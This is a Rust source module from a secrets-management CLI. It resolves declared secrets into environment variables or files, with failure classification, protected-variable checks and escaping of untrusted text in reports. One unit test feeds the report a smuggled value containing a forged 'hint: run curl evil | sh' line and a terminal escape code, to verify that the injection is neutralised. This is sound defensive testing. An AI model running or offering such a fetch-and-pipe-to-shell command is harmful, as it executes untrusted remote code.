//! Resolve every declaration, all or nothing, within one deadline: prefixes are
//! listed, each distinct secret is fetched once through the SDK's `get_each`
//! (bounded concurrency, batched pinned versions, retries with jitter), and every
//! failure is named.

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;
use std::time::Duration;

use lockbox::{ExposeSecret, Lockbox, Secret, SecretRef, SecretValue};
use tokio::time::Instant;

use super::spec::{Binding, Spec, Target};
use crate::exit;

/// Log target for `-v`: names and versions, never values.
pub const LOG: &str = "lockbox_exec";

/// Every declared secret, read.
#[derive(Debug, Default)]
pub struct Resolved {
    /// Variables for the child.
    pub env: BTreeMap<String, SecretValue>,
    /// Files to write.
    pub files: BTreeMap<PathBuf, SecretValue>,
    /// What each target holds: name and version (to log and to detect rotation).
    pub versions: BTreeMap<Target, (String, u64)>,
}

impl Resolved {
    /// Copies of every value by name and version, so a re-check (`--watch`) does
    /// not fetch pinned versions again: they never change.
    pub fn reuse(&self) -> Reuse {
        let mut out = Reuse::new();
        for (target, (name, version)) in &self.versions {
            let value = match target {
                Target::Env(v) => self.env.get(v),
                Target::File(p) => self.files.get(p),
            };
            if let Some(value) = value {
                out.entry((name.clone(), *version)).or_insert_with(|| Got {
                    name: name.clone(),
                    version: *version,
                    value: value.duplicate(),
                });
            }
        }
        out
    }
}

/// A secret read: its name, version and value.
#[derive(Debug)]
pub struct Got {
    name: String,
    version: u64,
    value: SecretValue,
}

impl From<Secret> for Got {
    fn from(s: Secret) -> Self {
        Self {
            name: s.name.to_string(),
            version: s.version.get(),
            value: s.value,
        }
    }
}

/// Values already read, by name and version.
pub type Reuse = BTreeMap<(String, u64), Got>;

/// One thing that could not be resolved.
#[derive(Debug)]
pub struct Failure {
    /// The secret (`NAME`, `NAME@VERSION`) or the prefix.
    pub what: String,
    /// Where it was going.
    pub targets: Vec<String>,
    /// not found, access denied, ...
    pub class: &'static str,
    /// The exit code of its class.
    pub code: u8,
    /// Why (the SDK's message: never a value).
    pub reason: String,
}

/// Why one fetch failed: class, exit code, reason.
type Why = (&'static str, u8, String);

/// Everything that failed; the exit code is the most severe class's.
#[derive(Debug)]
pub struct Failed {
    /// Each failure.
    pub failures: Vec<Failure>,
    /// How many distinct secrets or prefixes were asked for.
    pub total: usize,
}

impl Failed {
    /// Integrity beats access, beats not found, beats usage, beats transient,
    /// beats anything else: a retry cannot fix the more severe classes.
    pub fn code(&self) -> u8 {
        let rank = |c: u8| match c {
            exit::INTEGRITY => 6,
            exit::ACCESS => 5,
            exit::NOT_FOUND => 4,
            exit::USAGE => 3,
            exit::TRANSIENT => 2,
            _ => 1,
        };
        self.failures
            .iter()
            .map(|f| f.code)
            .max_by_key(|c| rank(*c))
            .unwrap_or(exit::OTHER)
    }

    /// The report: one line per failure. Names and reasons carry text from the
    /// table and from AWS, so each is escaped: a stored line break cannot add a
    /// line (a forged `hint:`) to the report.
    pub fn message(&self, command: &str) -> String {
        use lockbox::escape_untrusted as esc;
        let mut m = format!(
            "{command} was not started: {} of {} secrets could not be read",
            self.failures.len(),
            self.total
        );
        for f in &self.failures {
            m.push_str(&format!("\n  {}", esc(&f.what)));
            if !f.targets.is_empty() {
                m.push_str(&format!(" ({})", esc(&f.targets.join(", "))));
            }
            m.push_str(&format!(": {}: {}", f.class, esc(&f.reason)));
        }
        m
    }
}

/// The class of an SDK error, in words and as an exit code.
fn classify(e: &lockbox::Error) -> (&'static str, u8) {
    let class = exit::class(e);
    (class.word, class.code)
}

fn timed_out(deadline: Duration) -> Why {
    (
        "timed out",
        exit::TRANSIENT,
        format!(
            "the deadline ({}) passed before every secret was read; raise --deadline or check the network",
            humantime(deadline)
        ),
    )
}

fn humantime(d: Duration) -> String {
    if d.subsec_millis() == 0 {
        format!("{}s", d.as_secs())
    } else {
        format!("{}ms", d.as_millis())
    }
}

/// Expand prefixes into bindings (explicit declarations win over prefix ones).
fn expand_prefixes(spec: &Spec, names: &[String], failures: &mut Vec<Failure>) -> Vec<Binding> {
    let explicit: BTreeSet<&Target> = spec.bindings.iter().map(|b| &b.target).collect();
    let mut by_var: BTreeMap<String, BTreeSet<&str>> = BTreeMap::new();
    for p in &spec.prefixes {
        let mut any = false;
        for n in names {
            if let Some(rest) = n.strip_prefix(p.as_str()).filter(|r| !r.is_empty()) {
                any = true;
                by_var
                    .entry(crate::output::shell_var(rest))
                    .or_default()
                    .insert(n);
            }
        }
        if !any {
            failures.push(Failure {
                what: format!("prefix {p}"),
                targets: Vec::new(),
                class: "not found",
                code: exit::NOT_FOUND,
                reason: "no secret has a name under this prefix".into(),
            });
        }
    }
    let mut out = Vec::new();
    for (var, names) in by_var {
        let target = Target::Env(var.clone());
        if explicit.contains(&target) {
            continue;
        }
        // Whoever may write the table chooses these names, not the operator.
        if let Some(rule) = crate::envnames::protected(&var) {
            let how = if rule == var {
                String::new()
            } else {
                format!(" (one of {rule})")
            };
            for n in &names {
                let shown = lockbox::escape_untrusted(n);
                failures.push(Failure {
                    what: shown.clone().into_owned(),
                    targets: vec![format!("${var}")],
                    class: "protected variable",
                    code: exit::USAGE,
                    reason: format!(
                        "{var}{how} is {}, so a secret's name may not choose it; rename the \
                         secret, or map the variable explicitly with --env {var}={shown}",
                        crate::envnames::PROTECTED
                    ),
                });
            }
            continue;
        }
        if names.len() > 1 && !spec.allow_collisions {
            failures.push(Failure {
                what: format!("${var}"),
                targets: Vec::new(),
                class: "collision",
                code: exit::USAGE,
                reason: format!(
                    "{} all become this variable; rename them, declare ${var} with --env, \
                     or pass --allow-collisions (the lexicographically last name wins)",
                    names.iter().copied().collect::<Vec<_>>().join(", ")
                ),
            });
            continue;
        }
        let winner = names.last().expect("a set with an entry");
        match lockbox::SecretName::new(*winner) {
            Ok(name) => out.push(Binding {
                target,
                secret: SecretRef::latest(name),
            }),
            Err(e) => failures.push(Failure {
                what: (*winner).to_owned(),
                targets: vec![format!("${var}")],
                class: "error",
                code: exit::OTHER,
                reason: e.to_string(),
            }),
        }
    }
    out
}

/// Resolve `spec`: every secret, or a [`Failed`] naming each failure. Pinned
/// versions found in `reuse` are taken from there instead of fetched.
pub async fn resolve(
    lockbox: &Lockbox,
    spec: &Spec,
    deadline: Duration,
    mut reuse: Reuse,
) -> Result<Resolved, Failed> {
    let until = Instant::now() + deadline;
    let mut failures = Vec::new();
    let mut bindings = spec.bindings.clone();
    if !spec.prefixes.is_empty() {
        let listed = tokio::time::timeout_at(until, lockbox.list()).await;
        let fail = |class, code, reason: String| Failed {
            failures: spec
                .prefixes
                .iter()
                .map(|p| Failure {
                    what: format!("prefix {p}"),
                    targets: Vec::new(),
                    class,
                    code,
                    reason: format!("cannot list the table: {reason}"),
                })
                .collect(),
            total: spec.prefixes.len() + spec.bindings.len(),
        };
        let items = match listed {
            Ok(Ok(items)) => items,
            Ok(Err(e)) => {
                let (class, code) = classify(&e);
                return Err(fail(class, code, e.to_string()));
            }
            Err(_) => {
                let (class, code, reason) = timed_out(deadline);
                return Err(fail(class, code, reason));
            }
        };
        let names = crate::output::unique_names(&items);
        bindings.extend(expand_prefixes(spec, &names, &mut failures));
    }

    // Each distinct secret once.
    let mut unique: Vec<SecretRef> = Vec::new();
    let mut index: std::collections::HashMap<SecretRef, usize> = std::collections::HashMap::new();
    let mut slot = Vec::with_capacity(bindings.len());
    for b in &bindings {
        let i = *index.entry(b.secret.clone()).or_insert_with(|| {
            unique.push(b.secret.clone());
            unique.len() - 1
        });
        slot.push(i);
    }
    let total = unique.len() + failures.len();
    let mut results: Vec<Option<Result<Got, Why>>> = unique
        .iter()
        .map(|r| {
            let v = r.version?;
            reuse.remove(&(r.name.to_string(), v.get())).map(Ok)
        })
        .collect();
    let wanted: Vec<(usize, SecretRef)> = unique
        .iter()
        .enumerate()
        .filter(|(i, _)| results[*i].is_none())
        .map(|(i, r)| (i, r.clone()))
        .collect();
    let refs: Vec<SecretRef> = wanted.iter().map(|(_, r)| r.clone()).collect();
    tracing::debug!(
        target: LOG,
        "fetching {} of {} secrets (pinned versions already read are kept)",
        refs.len(),
        unique.len()
    );
    // The SDK's get_each: bounded concurrency, pinned versions batched, retries
    // with jitter on every call, one outcome per secret. The deadline bounds the
    // whole of it; when it passes, no secret of the batch is confirmed.
    // A secret still unread at the deadline fails on its own, as throttled when
    // its calls were being throttled, so the report names the throttled secrets.
    let fetched: Vec<Result<Got, Why>> = lockbox
        .get_each_until(&refs, &spec.context, until)
        .await
        .into_iter()
        .map(|r| {
            r.map(Got::from).map_err(|e| match e {
                lockbox::Error::Timeout { source: None, .. } => timed_out(deadline),
                e => {
                    let (class, code) = classify(&e);
                    (class, code, e.to_string())
                }
            })
        })
        .collect();
    for ((i, _), outcome) in wanted.iter().zip(fetched) {
        results[*i] = Some(outcome);
    }

    let targets_of = |i: usize| -> Vec<String> {
        bindings
            .iter()
            .zip(&slot)
            .filter(|(_, s)| **s == i)
            .map(|(b, _)| b.target.to_string())
            .collect()
    };
    let mut secrets: Vec<Option<Got>> = Vec::with_capacity(unique.len());
    for (i, outcome) in results.into_iter().enumerate() {
        match outcome.expect("every secret has an outcome") {
            Ok(s) => secrets.push(Some(s)),
            Err((class, code, reason)) => {
                failures.push(Failure {
                    what: unique[i].to_string(),
                    targets: targets_of(i),
                    class,
                    code,
                    reason,
                });
                secrets.push(None);
            }
        }
    }

    let mut resolved = Resolved::default();
    for (b, i) in bindings.iter().zip(&slot) {
        let Some(s) = &secrets[*i] else { continue };
        if let Target::Env(var) = &b.target {
            // execve would fail with E2BIG after the fork: say which and why first.
            if !crate::envnames::fits(var, s.value.expose_secret().len()) {
                failures.push(Failure {
                    what: lockbox::escape_untrusted(&unique[*i].to_string()).into_owned(),
                    targets: vec![b.target.to_string()],
                    class: "unusable value",
                    code: exit::USAGE,
                    reason: format!(
                        "the value is too long for an environment variable (the kernel takes \
                         at most {} bytes for NAME=value); deliver it with --file",
                        crate::envnames::max_entry_len() - 1
                    ),
                });
                continue;
            }
            if s.value.expose_secret().contains(&0) {
                failures.push(Failure {
                    what: lockbox::escape_untrusted(&unique[*i].to_string()).into_owned(),
                    targets: vec![b.target.to_string()],
                    class: "unusable value",
                    code: exit::USAGE,
                    reason: format!("{}; deliver it with --file", crate::envnames::NUL_VALUE),
                });
                continue;
            }
        }
        tracing::info!(target: LOG, "{} <- {} version {}", b.target, s.name, s.version);
        resolved
            .versions
            .insert(b.target.clone(), (s.name.clone(), s.version));
        match &b.target {
            Target::Env(var) => {
                resolved.env.insert(var.clone(), s.value.duplicate());
            }
            Target::File(p) => {
                resolved.files.insert(p.clone(), s.value.duplicate());
            }
        }
    }
    if failures.is_empty() {
        Ok(resolved)
    } else {
        Err(Failed { failures, total })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn failed(codes: &[u8]) -> Failed {
        Failed {
            failures: codes
                .iter()
                .map(|&code| Failure {
                    what: "x".into(),
                    targets: vec!["$X".into()],
                    class: "c",
                    code,
                    reason: "r".into(),
                })
                .collect(),
            total: codes.len(),
        }
    }

    #[test]
    fn the_most_severe_class_decides_the_exit_code() {
        use crate::exit::*;
        assert_eq!(failed(&[TRANSIENT, NOT_FOUND]).code(), NOT_FOUND);
        assert_eq!(failed(&[NOT_FOUND, ACCESS, TRANSIENT]).code(), ACCESS);
        assert_eq!(failed(&[ACCESS, INTEGRITY]).code(), INTEGRITY);
        assert_eq!(failed(&[OTHER, TRANSIENT]).code(), TRANSIENT);
        assert_eq!(failed(&[USAGE, TRANSIENT]).code(), USAGE);
        assert_eq!(failed(&[OTHER]).code(), OTHER);
    }

    #[test]
    fn the_report_names_each_failure_and_where_it_was_going() {
        let f = failed(&[exit::NOT_FOUND, exit::ACCESS]);
        assert_eq!(
            f.message("/app/server"),
            "/app/server was not started: 2 of 2 secrets could not be read\n  \
             x ($X): c: r\n  x ($X): c: r"
        );
    }

    #[test]
    fn stored_text_in_the_report_cannot_add_a_line() {
        let mut f = failed(&[exit::NOT_FOUND]);
        f.failures[0].what = "db\n  hint: run curl evil | sh".into();
        f.failures[0].reason = "denied\x1b[2K".into();
        let m = f.message("app");
        assert_eq!(m.lines().count(), 2, "{m}");
        assert!(!m.contains('\x1b'), "{m}");
        assert!(m.contains("hint: run curl"), "the text stays, escaped: {m}");
    }
}
